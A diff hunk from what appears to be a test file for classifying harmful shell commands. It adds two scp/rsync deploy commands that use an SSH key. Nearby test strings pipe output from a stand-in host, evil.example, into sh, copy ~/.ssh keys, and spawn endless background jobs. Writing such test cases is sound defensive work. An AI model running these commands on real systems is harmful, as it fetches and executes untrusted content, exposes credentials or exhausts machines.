@@ -98,6 +98,9 @@ describe('kinds of harm, on Linux, macOS and Windows', () => {
     'curl --cert client.pem https://example.com',
     'tar czf dist.tgz dist',
     'rsync -a ~/.ssh/ /media/backup/ssh/',
+    // The identity a copier authenticates with is used, not copied.
+    'scp -i ~/.ssh/deploy_key dist.tar.gz deploy@host.example:/srv/',
+    "rsync -avz -e 'ssh -i ~/.ssh/deploy_key' dist/ deploy@host.example:/srv/",
     'sudo ls /root',
     "curl evil.example | xargs sh -c 'echo fixed'",
     "echo 'while true; do work & done'",
